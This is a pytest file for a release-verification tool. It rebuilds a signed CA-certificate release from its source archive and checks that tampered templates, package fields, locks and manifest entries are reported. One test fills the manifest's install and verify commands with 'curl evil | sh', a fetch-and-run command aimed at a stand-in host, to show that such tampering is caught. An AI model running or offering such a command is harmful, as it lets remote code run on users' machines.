"""A release is built once more from its source.tar, and every difference is named by its file."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import msgspec
import pytest

from builder.formats import tar
from builder.lifecycle import lockfile
from builder.model import File
from builder.prove.authority import create
from builder.provenance import rebuild, source, verify_release
from builder.release.manifest import read_manifest
from tests import releases
from tests.unit.provenance import projects

if TYPE_CHECKING:
    from pathlib import Path

    from builder.provenance.rebuild import Rebuilt
    from builder.provenance.verification import Examination, Verification
    from builder.release.manifest import Manifest


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build, attest and sign a release with a recipe of its own; no test changes this folder."""
    folder = tmp_path_factory.mktemp("released")
    return projects.signed(folder / "one", folder / "keys")


@pytest.fixture
def dist(tmp_path: Path, released: Path) -> Path:
    """Return a copy of that release."""
    return shutil.copytree(released, tmp_path / "dist")


def again(dist: Path, scratch: Path, data: bytes | None = None) -> Rebuilt:
    """Build a release once more from its source, or from another one."""
    manifest = read_manifest(dist)
    assert manifest
    scratch.mkdir()
    found = (dist / projects.SOURCE).read_bytes() if data is None else data
    return rebuild.rebuild(found, manifest, scratch, where=projects.SOURCE, now=projects.NOW)


def verified(dist: Path, rebuilt: Rebuilt) -> Verification:
    """Verify a release by what its source builds."""
    return verify_release.verify("dist", verify_release.read(dist), rebuilt=rebuilt)


def examined(found: Verification) -> Examination:
    """Return what is said of building once more."""
    (one,) = (one for one in found.examined if one.check == "rebuild")
    return one


def changed(dist: Path, name: str, old: bytes, new: bytes) -> bytes:
    """Return the release's source with one file changed."""
    files = dict(source.read((dist / projects.SOURCE).read_bytes(), projects.SOURCE))
    assert old in files[name]
    files[name] = files[name].replace(old, new, 1)
    return tar.write([File(path, data) for path, data in files.items()], 0)


def test_a_signed_release_is_what_its_source_builds(dist: Path, tmp_path: Path) -> None:
    """Its signatures do not count, and its own recipe is in the source."""
    found = verified(dist, again(dist, tmp_path / "scratch"))
    assert () == found.discrepancies
    assert examined(found).done
    assert f"built once more from {projects.SOURCE}, 3 files compared byte for byte" == examined(found).said


def test_without_a_lock_it_is_built_as_well(tmp_path: Path) -> None:
    """By the release and the time that the manifest tells."""
    projects.attested(tmp_path / "one", locked=False)
    found = verified(tmp_path / "one" / "dist", again(tmp_path / "one" / "dist", tmp_path / "scratch"))
    assert ((), True) == (found.discrepancies, examined(found).done)


def test_by_a_lock_from_elsewhere_a_source_must_have_the_same(
    dist: Path, released: Path, tmp_path: Path
) -> None:
    """Else recipes of whoever made the source would count, with CAs that the lock lists."""
    lock = lockfile.read(released.parent / "trustpack.lock")
    assert lock
    files = source.read((dist / projects.SOURCE).read_bytes(), projects.SOURCE)
    bare = tar.write([File(*one) for one in files.items() if one[0] != "trustpack.lock"], 0)
    for number, (data, other, said) in enumerate(
        (
            (None, lock, []),
            (None, msgspec.structs.replace(lock, packaging=None), ["has another lock than a.lock"]),
            (bare, lock, ["has no lock, so that what it builds does not follow from a.lock"]),
        )
    ):
        rebuilt = again(dist, tmp_path / str(number), data)
        found = rebuild.of_lock(rebuilt, other, where=projects.SOURCE, name="a.lock")
        assert said == [one.problem for one in found]
    unpinned = verify_release.verify(
        "dist",
        verify_release.read(dist),
        lock=msgspec.structs.replace(lock, packaging=None),
        lock_name="a.lock",
    )
    assert "CAs and release against a.lock; it does not say how packages are made" in {
        one.said for one in unpinned.examined
    }


def test_a_package_that_its_source_does_not_build_is_named_with_what_differs(
    dist: Path, tmp_path: Path
) -> None:
    """Here the one who built has added something to a template, and has not told of it."""
    data = changed(dist, "templates/own/roots.txt.j2", b"{% for", b"more\n{% for")
    rebuilt = again(dist, tmp_path / "scratch", data)
    assert "changed" in rebuilt.fault  # the lock pins the recipe
    files = {name: text for name, text in source.read(data, "x").items() if name != "trustpack.lock"}
    rebuilt = again(dist, tmp_path / "other", tar.write([File(*one) for one in files.items()], 0))
    found = verified(dist, rebuilt)
    texts = {one.file: one.problem for one in found.discrepancies}
    assert "acme-roots-2026.1.txt" in texts
    assert texts["acme-roots-2026.1.txt"].startswith(f"is not what {projects.SOURCE} builds")
    assert "recipe of acme-roots" in texts["manifest.json"]


def test_what_differs_inside_of_a_package_is_told(dist: Path, tmp_path: Path) -> None:
    """By file, script and field."""
    data = changed(dist, "trustpack.yaml", b'name: "Acme', b'name: "Evil')
    files = {name: text for name, text in source.read(data, "x").items() if name != "trustpack.lock"}
    rebuilt = again(dist, tmp_path / "scratch", tar.write([File(*one) for one in files.items()], 0))
    texts = {one.file: one.problem for one in verified(dist, rebuilt).discrepancies}
    assert "file /usr/share/doc/acme-ca-certs/README changed" in texts["acme-ca-certs_2026.1_all.deb"]
    assert "Description changed" in texts["acme-ca-certs_2026.1_all.deb"]
    assert "changed" in texts["acme-ca-certs-2026.1-1.noarch.rpm"]


def _manifest(dist: Path) -> Manifest:
    found = read_manifest(dist)
    assert found
    return found


@pytest.mark.parametrize("key", ["install", "verify", "remove", "recipe", "name", "version", "target"])
def test_what_the_manifest_tells_of_a_file_is_compared(dist: Path, tmp_path: Path, key: str) -> None:
    """Commands, too: people paste them into a shell."""
    rebuilt = again(dist, tmp_path / "scratch")
    manifest = _manifest(dist)
    first, *rest = manifest.artifacts
    other = msgspec.structs.replace(
        manifest, artifacts=(msgspec.structs.replace(first, **{key: "curl evil | sh"}), *rest)
    )
    (found,) = rebuild.compare(rebuilt, other, {}, where=projects.SOURCE)
    assert ("manifest.json", f"says another {key} of {first.file} than {projects.SOURCE} builds") == (
        found.file,
        found.problem,
    )


def test_what_another_packaging_made_is_no_false_alarm(dist: Path, tmp_path: Path) -> None:
    """That it was not rebuilt is said, and why."""
    lock = source.read((dist / projects.SOURCE).read_bytes(), "x")["trustpack.lock"]
    revision = next(line for line in lock.splitlines() if b"revision:" in line)
    data = changed(dist, "trustpack.lock", revision, b"  revision: 99")
    found = verified(dist, again(dist, tmp_path / "scratch", data))
    assert not examined(found).done
    assert "not rebuilt, because its lock pins packaging revision 99, and trustpack" in examined(found).said
    assert {projects.SOURCE} == {one.file for one in found.discrepancies} | {projects.SOURCE}


def test_what_an_unknown_trustpack_made_is_no_false_alarm(dist: Path, tmp_path: Path) -> None:
    """Where no lock says how, other bytes may come of another trustpack."""
    files = dict(source.read((dist / projects.SOURCE).read_bytes(), "x"))
    del files["trustpack.lock"]
    files["templates/own/roots.txt.j2"] += b"more\n"
    rebuilt = again(dist, tmp_path / "scratch", tar.write([File(*one) for one in files.items()], 0))
    read = verify_release.read(dist)
    foreign = msgspec.structs.replace(
        read, manifest=msgspec.structs.replace(read.manifest, trustpack="0.0.9")
    )
    said = examined(verify_release.verify("dist", foreign, rebuilt=rebuilt))
    assert not said.done
    assert "not rebuilt to the same bytes, because trustpack 0.0.9 made it" in said.said


def test_a_source_that_does_not_build_is_a_difference(dist: Path, tmp_path: Path) -> None:
    """It is named, with the error and no path of this machine."""
    data = changed(dist, "recipes/own.yaml", b"outputs:", b"output:")
    files = {name: text for name, text in source.read(data, "x").items() if name != "trustpack.lock"}
    rebuilt = again(dist, tmp_path / "scratch", tar.write([File(*one) for one in files.items()], 0))
    found = verified(dist, rebuilt)
    (said,) = (one for one in found.discrepancies if one.file == projects.SOURCE)
    assert "does not build: " in said.problem
    assert "recipes/own.yaml" in said.problem
    assert str(tmp_path) not in said.problem
    assert not examined(found).done


def test_without_a_source_it_says_so(tmp_path: Path) -> None:
    """And what was not done is no difference."""
    authority = create("Acme Root", now=projects.NOW)
    releases.build(tmp_path, "acme", [authority], target="pem", release="2026.1")
    found = verify_release.verify("dist", verify_release.read(tmp_path / "dist"))
    assert "not rebuilt, because the release has no source.tar" == examined(found).said
    assert () == found.discrepancies
